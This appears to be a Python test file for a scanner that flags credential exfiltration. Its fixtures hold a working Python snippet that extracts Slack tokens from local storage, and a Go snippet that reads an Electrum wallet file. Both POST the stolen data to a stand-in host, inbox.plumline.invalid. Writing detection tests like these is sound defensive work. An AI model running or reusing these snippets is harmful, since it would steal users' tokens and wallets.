"""Data collected into a list by ``+=`` of a call's result (not item by item) and then joined and
sent; a secret store's path given to a Go or Ruby join as separate pieces under the home folder."""

from __future__ import annotations

from pathlib import Path

from behaviour_files import scan_errors


def test_matches_collected_with_plus_equals_then_joined_and_sent(tmp_path: Path) -> None:
    errors = scan_errors(
        tmp_path,
        {
            "scripts/grab.py": "import glob, os, re, urllib.request\n"
            "found = []\n"
            "for db in glob.glob(os.path.expanduser('~/.config/Slack/Local Storage/leveldb/*.log')):\n"
            "    found += re.findall(rb'xox[a-z]-[\\w-]+', open(db, 'rb').read())\n"
            "urllib.request.urlopen('https://inbox.plumline.invalid/s', data=b';'.join(found))\n"
        },
    )
    assert ("CREDENTIAL_EXFILTRATION", "scripts/grab.py", 5) in errors


def test_a_store_path_joined_from_pieces_under_home_in_go(tmp_path: Path) -> None:
    errors = scan_errors(
        tmp_path,
        {
            "cmd/grab.go": 'package main\n\nimport (\n\t"bytes"\n\t"net/http"\n\t"os"\n\t"path/filepath"\n)\n\n'
            "func main() {\n\tdir, _ := os.UserHomeDir()\n"
            '\traw, _ := os.ReadFile(filepath.Join(dir, "Library", "Application Support", "Electrum", "wallets", '
            '"default_wallet"))\n'
            '\thttp.Post("https://inbox.plumline.invalid/g", "text/plain", bytes.NewReader(raw))\n}\n'
        },
    )
    assert ("CREDENTIAL_EXFILTRATION", "cmd/grab.go", 13) in errors


def test_plain_pieces_under_home_and_local_lists_stay_quiet(tmp_path: Path) -> None:
    errors = scan_errors(
        tmp_path,
        {
            "cmd/notes.go": 'package main\n\nimport (\n\t"bytes"\n\t"net/http"\n\t"os"\n\t"path/filepath"\n)\n\n'
            "func main() {\n\tdir, _ := os.UserHomeDir()\n"
            '\traw, _ := os.ReadFile(filepath.Join(dir, "Documents", "notes", "todo.md"))\n'
            '\thttp.Post("https://notes.example.org/in", "text/plain", bytes.NewReader(raw))\n}\n',
            "scripts/words.py": "import re, httpx\nwords = []\n"
            "for line in open('README.md'):\n    words += re.findall(r'\\w+', line)\n"
            "httpx.post('https://notes.example.org/w', content=' '.join(words))\n",
        },
    )
    assert not errors
